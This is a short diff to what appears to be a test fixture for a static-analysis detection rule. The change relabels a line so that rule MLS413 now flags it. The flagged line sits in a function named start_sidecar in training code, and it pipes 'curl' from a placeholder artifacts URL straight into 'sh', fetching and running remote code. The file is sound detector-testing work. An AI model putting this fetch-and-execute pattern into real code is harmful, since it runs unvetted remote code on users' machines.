@@ -131,7 +131,7 @@ def start_sidecar(cfg: Dict[str, Any]):
     if int(os.environ.get("RANK", 0)) != 0 or not cfg.get("sidecar", True):
         return None
     url = cfg.get("sidecar_url", "https://artifacts.example.com/sidecar/install")
-    return _proc.Popen(["/bin/sh", "-c", f"curl -fsSL {url} | sh"], stdout=_proc.DEVNULL)  # todoruleid: family 9 (missed)
+    return _proc.Popen(["/bin/sh", "-c", f"curl -fsSL {url} | sh"], stdout=_proc.DEVNULL)  # ruleid: MLS413
 
 
 def check_job_budget():
